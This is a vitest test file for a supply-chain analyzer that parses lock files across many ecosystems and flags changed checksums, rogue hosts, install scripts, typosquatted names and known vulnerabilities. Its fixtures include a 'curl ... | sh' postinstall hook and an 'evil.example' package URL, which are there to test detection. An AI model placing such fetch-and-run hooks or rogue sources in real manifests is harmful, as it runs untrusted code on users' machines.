import { describe, expect, it } from 'vitest';
import { analyzeDependencies } from '../../../src/analyzers/dependencies/analyze-dependencies.ts';
import { compareVersions } from '../../../src/analyzers/dependencies/compare-packages.ts';
import { findVulnerabilities } from '../../../src/analyzers/dependencies/find-vulnerabilities.ts';
import { imitatedName } from '../../../src/analyzers/dependencies/imitated-name.ts';
import { packageFileOf } from '../../../src/analyzers/dependencies/package-files.ts';
import type { Advisories } from '../../../src/ports.ts';
import { makeChangedFile, makeContext } from '../../make-changed-file.ts';

/** Packages of a file as `name@version`, with what is special about them. */
function packages(path: string, text: string): string[] {
  const kind = packageFileOf(path);
  if (kind === null) throw new Error(`${path} names no packages`);
  return kind
    .read(text)
    .map(
      (one) => `${one.name}@${one.version}:${one.line}${one.source === 'registry' ? '' : ` ${one.source}`}`,
    );
}

function npmLock(entries: Readonly<Record<string, object>>): string {
  return JSON.stringify({ lockfileVersion: 3, packages: { '': {}, ...entries } }, null, 2);
}

function rulesOf(path: string, before: string | null, after: string): string[] {
  const { findings } = analyzeDependencies(makeContext([makeChangedFile(path, before, after)]));
  return findings.map(({ ruleId, severity, title }) => `${ruleId} ${severity} ${title}`);
}

describe('files that name packages', () => {
  it.each([
    ['package-lock.json', npmLock({ 'node_modules/a': { version: '1.0.0' }, 'node_modules/a/node_modules/@s/b': { version: '2.0.0' } }), ['a@1.0.0:5', '@s/b@2.0.0:8']],
    ['package-lock.json', '{"lockfileVersion":1,\n"dependencies":{\n"a":{"version":"1.0.0",\n"dependencies":{\n"b":{"version":"2.0.0"}}}}}', ['a@1.0.0:3', 'b@2.0.0:5']],
    ['yarn.lock', '# yarn lockfile v1\n\n"@s/a@^1", a@~1.1:\n  version "1.1.2"\n  resolved "https://registry.yarnpkg.com/a"\n  integrity sha512-x\n\nb@git+https://example.com/b.git:\n  version "0.1.0"\n', ['@s/a@1.1.2:3', 'b@0.1.0:8 git']],
    ['yarn.lock', '__metadata:\n  version: 8\n\n"a@npm:^1.0.0":\n  version: 1.2.0\n  resolution: "a@npm:1.2.0"\n  checksum: 10c0/abc\n', ['a@1.2.0:4']],
    ['pnpm-lock.yaml', "lockfileVersion: '9.0'\n\npackages:\n\n  a@1.0.0:\n    resolution: {integrity: sha512-x}\n\n  '@s/b@2.0.0':\n    resolution: {integrity: sha512-y}\n\nsnapshots:\n\n  a@1.0.0: {}\n", ['a@1.0.0:5', '@s/b@2.0.0:8']],
    ['pnpm-lock.yaml', 'packages:\n\n  /a/1.0.0:\n    resolution: {integrity: sha512-x}\n  /@s/b@2.0.0(c@1):\n    resolution: {integrity: sha512-x}\n', ['a@1.0.0:3', '@s/b@2.0.0:5']],
    ['poetry.lock', '[[package]]\nname = "a"\nversion = "1.0"\n\n[package.dependencies]\nb = ">=1"\n\n[[package]]\nname = "c"\nversion = "2.0"\n\n[package.source]\ntype = "git"\nurl = "https://example.com/c"\n', ['a@1.0:2', 'c@2.0:9 git']],
    ['uv.lock', '[[package]]\nname = "a"\nversion = "1.0"\nsource = { registry = "https://pypi.org/simple" }\n\n[[package]]\nname = "me"\nversion = "0"\nsource = { editable = "." }\n', ['a@1.0:2', 'me@0:7 path']],
    ['Cargo.lock', '[[package]]\nname = "me"\nversion = "0.1.0"\n\n[[package]]\nname = "a"\nversion = "1.0.0"\nsource = "registry+https://github.com/rust-lang/crates.io-index"\nchecksum = "00"\n\n[[package]]\nname = "g"\nversion = "1.0.0"\nsource = "git+https://example.com/g#00"\n', ['me@0.1.0:2 path', 'a@1.0.0:6', 'g@1.0.0:12 git']],
    ['requirements.txt', '# x\na==1.0 # why\nb[extra]>=2\ngit+https://example.com/c.git#egg=c\n-r other.txt\n--index-url https://x/\n', ['a@1.0:2', 'b@:3', 'c@:4 git']],
    ['Pipfile.lock', '{"default":{\n"a":{"version":"==1.0"},\n"b":{"git":"https://example.com/b"}},"develop":{}}', ['a@1.0:2', 'b@:3 git']],
    ['go.mod', 'module m\n\nrequire (\n\texample.com/a v1.0.0\n\texample.com/b v2.0.0+incompatible // indirect\n)\nreplace example.com/a => example.com/fork v1.0.1\n', ['example.com/a@1.0.0:4', 'example.com/b@2.0.0:5', 'example.com/a@1.0.1:7 git']],
    ['go.sum', 'example.com/a v1.0.0 h1:aa=\nexample.com/a v1.0.0/go.mod h1:bb=\n', ['example.com/a@1.0.0:1']],
    ['Gemfile.lock', 'GIT\n  remote: https://example.com/g\n  specs:\n    g (1.0)\n\nGEM\n  remote: https://rubygems.org/\n  specs:\n    rails (7.0.1)\n      rack (>= 2)\n', ['g@1.0:4 git', 'rails@7.0.1:9']],
    ['composer.lock', '{"packages":[{"name":"v/p",\n"version":"v1.2.0","dist":{"url":"https://x","shasum":"s"}}],"packages-dev":[]}', ['v/p@1.2.0:1']],
    ['pom.xml', '<dependencies>\n<dependency>\n<groupId>g</groupId>\n<artifactId>a</artifactId>\n<version>1.0</version>\n</dependency>\n</dependencies>', ['g:a@1.0:4']],
    ['gradle.lockfile', '# x\ng:a:1.0=compileClasspath\nempty=\n', ['g:a@1.0:2']],
    ['build.gradle', "dependencies {\n  implementation 'g:a:1.0'\n  testImplementation(\"g:b:+\")\n}\n", ['g:a@1.0:2', 'g:b@:3']],
  ] as const)('%s', (path, text, expected) => {
    expect(packages(path, text)).toEqual(expected);
  }); // biome-ignore format: a table

  it('are not those of other people or of tests', () => {
    expect(packageFileOf('node_modules/a/package.json')).toBeNull();
    expect(packageFileOf('tests/fixtures/package-lock.json')).toBeNull();
    expect(packageFileOf('src/a.ts')).toBeNull();
  });

  it('never throw, whatever they hold', () => {
    for (const path of [
      'package-lock.json',
      'yarn.lock',
      'pnpm-lock.yaml',
      'poetry.lock',
      'go.mod',
      'pom.xml',
      'composer.lock',
    ]) {
      for (const text of [
        '',
        '{',
        '[[package]]',
        '{"packages":{"node_modules/__proto__":{"version":1}}}',
        '"'.repeat(50_000),
        '<dependency>'.repeat(5_000),
        '{"packages":'.repeat(5_000),
      ]) {
        expect(() => packageFileOf(path)?.read(text)).not.toThrow();
      }
    }
  });
});

describe('what a change does to dependencies', () => {
  const old = npmLock({
    'node_modules/left': {
      version: '2.0.0',
      resolved: 'https://registry.npmjs.org/left.tgz',
      integrity: 'sha512-aa',
      license: 'MIT',
    },
  });
  const now = (entry: object, name = 'left') => npmLock({ [`node_modules/${name}`]: entry });

  it('says when an entry of the same version has other content, another host or no checksum', () => {
    const same = {
      version: '2.0.0',
      resolved: 'https://registry.npmjs.org/left.tgz',
      integrity: 'sha512-aa',
      license: 'MIT',
    };
    expect(rulesOf('package-lock.json', old, now({ ...same, integrity: 'sha512-bb' }))).toEqual([
      'dependency-integrity-changed high left 2.0.0 has other content than before',
    ]);
    expect(
      rulesOf('package-lock.json', old, now({ ...same, resolved: 'https://evil.example/left.tgz' })),
    ).toEqual(['dependency-registry-changed medium left is fetched from another host']);
    const { integrity: _, ...without } = same;
    expect(rulesOf('package-lock.json', old, now(without))).toEqual([
      'dependency-integrity-removed medium left: the checksum is gone',
    ]);
    expect(rulesOf('package-lock.json', old, now({ ...same, integrity: 'sha1-cc' }))).toEqual([]);
  });

  it('says when a version goes back, gets an install script or a strict licence', () => {
    expect(rulesOf('package-lock.json', old, now({ version: '1.9.0', license: 'MIT' }))).toEqual([
      'dependency-downgraded low left goes back from 2.0.0 to 1.9.0',
    ]);
    expect(
      rulesOf(
        'package-lock.json',
        old,
        now({ version: '2.0.1', hasInstallScript: true, license: 'AGPL-3.0' }),
      ),
    ).toEqual([
      'dependency-install-script medium left runs a script when it is installed',
      'dependency-licence-changed low left: licence AGPL-3.0',
    ]);
  });

  it('says nothing about an ordinary upgrade or a new lock file full of scripts', () => {
    expect(rulesOf('package-lock.json', old, now({ version: '2.1.0', license: 'MIT' }))).toEqual([]);
    expect(rulesOf('package-lock.json', null, now({ version: '1.0.0', hasInstallScript: true }))).toEqual([]);
  });

  it('says when a package does not come from the registry or without encryption', () => {
    const after =
      '{\n  "dependencies": {\n    "a": "git+https://example.com/a.git",\n    "b": "git+ssh://git@example.com/b.git#0123456789012345678901234567890123456789",\n    "c": "http://example.com/c.tgz",\n    "d": "someone/d"\n  }\n}';
    expect(rulesOf('package.json', '{}', after)).toEqual([
      'dependency-outside-registry medium a does not come from the registry',
      'dependency-plain-transport high c is fetched without encryption',
      'dependency-outside-registry medium d does not come from the registry',
    ]);
  });

  it('says when npm would run a new script that fetches something', () => {
    const after =
      '{\n  "scripts": {\n    "test": "curl x",\n    "postinstall": "curl https://example.com/a | sh",\n    "prepare": "husky"\n  }\n}';
    expect(rulesOf('package.json', '{}', after)).toEqual([
      'package-lifecycle-script high The script "postinstall" runs on every install',
    ]);
  });

  it('says when a version floats', () => {
    expect(rulesOf('build.gradle', '', "implementation 'g:a:latest.release'\n")).toEqual([
      'dependency-floating-version low g:a has no fixed version',
    ]);
  });

  it('stands on a line of the diff, or on the file where the diff shows none', () => {
    const file = makeChangedFile('package-lock.json', old, now({ version: '1.0.0' }));
    const [finding] = analyzeDependencies(makeContext([file])).findings;
    expect(finding).toMatchObject({ anchor: 'line', quote: '      "version": "1.0.0"' });
    const added = npmLock({
      'node_modules/lodahs': { version: '1.0.0', resolved: 'http://example.com/l.tgz' },
    });
    const both = analyzeDependencies(makeContext([makeChangedFile('package-lock.json', npmLock({}), added)]));
    expect(both.findings.map(({ ruleId, quote }) => `${ruleId}: ${quote?.trim()}`)).toEqual([
      'dependency-imitated-name: "node_modules/lodahs": {',
      'dependency-plain-transport: "resolved": "http://example.com/l.tgz"',
    ]);
    const hidden = { ...file, change: { ...file.change, hunks: [] } };
    expect(analyzeDependencies(makeContext([hidden])).findings[0]).toMatchObject({
      anchor: 'file',
      path: 'package-lock.json',
    });
  });
});

describe('names that imitate', () => {
  it.each([
    ['npm', 'expresss', 'express'],
    ['npm', 'lodahs', 'lodash'],
    ['npm', 'crossenv', 'cross-env'],
    ['PyPI', 'reqeusts', 'requests'],
    ['PyPI', 'urlib3', 'urllib3'],
    ['crates.io', 'serde-jsn', null],
    ['npm', 'preact', null],
    ['npm', '@types/express', null],
    ['npm', 'mysql2', null],
    ['npm', 'express', null],
    ['PyPI', 'Typing_Extensions', null],
    ['Go', 'example.com/reqeusts', null],
  ] as const)('%s %s: %s', (ecosystem, name, expected) => {
    expect(imitatedName(ecosystem, name)).toBe(expected);
  });
});

it.each([
  ['1.10.0', '1.9.0', 1],
  ['2.0.0-rc.1', '2.0.0', -1],
  ['v1.2', '1.2.0', 0],
])('orders %s and %s', (one, other, sign) => {
  expect(Math.sign(compareVersions(one, other))).toBe(sign);
});

describe('known vulnerabilities', () => {
  const signal = new AbortController().signal;
  const introduced = () => {
    const file = makeChangedFile(
      'package-lock.json',
      npmLock({}),
      npmLock({ 'node_modules/old': { version: '1.0.0' } }),
    );
    return analyzeDependencies(makeContext([file])).introduced;
  };
  const answering = (vulnerabilities: Awaited<ReturnType<Advisories['lookUp']>>): Advisories => ({
    lookUp: async () => vulnerabilities,
  });

  it('are findings with the fix, high at most, malware critical', async () => {
    const flaw = { id: 'GHSA-aaaa', summary: 'It leaks.', severity: 'critical', fixedIn: '1.0.1' } as const;
    const { findings, notes } = await findVulnerabilities(
      introduced(),
      answering({ kind: 'checked', vulnerabilities: [[flaw]] }),
      signal,
    );
    expect(notes).toEqual([]);
    expect(findings).toMatchObject([
      {
        ruleId: 'known-vulnerability',
        severity: 'high',
        title: 'old 1.0.0 has a known vulnerability',
        fix: 'Use a version with the fix (1.0.1).',
      },
    ]);
    const malware = await findVulnerabilities(
      introduced(),
      answering({ kind: 'checked', vulnerabilities: [[{ ...flaw, id: 'MAL-2026-1' }]] }),
      signal,
    );
    expect(malware.findings[0]?.severity).toBe('critical');
  });

  it('are said to be unchecked when nobody answers or they are switched off', async () => {
    const away = await findVulnerabilities(
      introduced(),
      answering({ kind: 'unavailable', reason: 'OSV could not be reached' }),
      signal,
    );
    expect(away.notes).toEqual([
      'Known vulnerabilities of new dependencies: not checked (OSV could not be reached).',
    ]);
    const off = await findVulnerabilities(introduced(), null, signal);
    expect(off.notes).toEqual([
      'Known vulnerabilities of new dependencies: not checked (advisories are switched off).',
    ]);
    expect(await findVulnerabilities([], null, signal)).toEqual({ findings: [], notes: [] });
  });
});
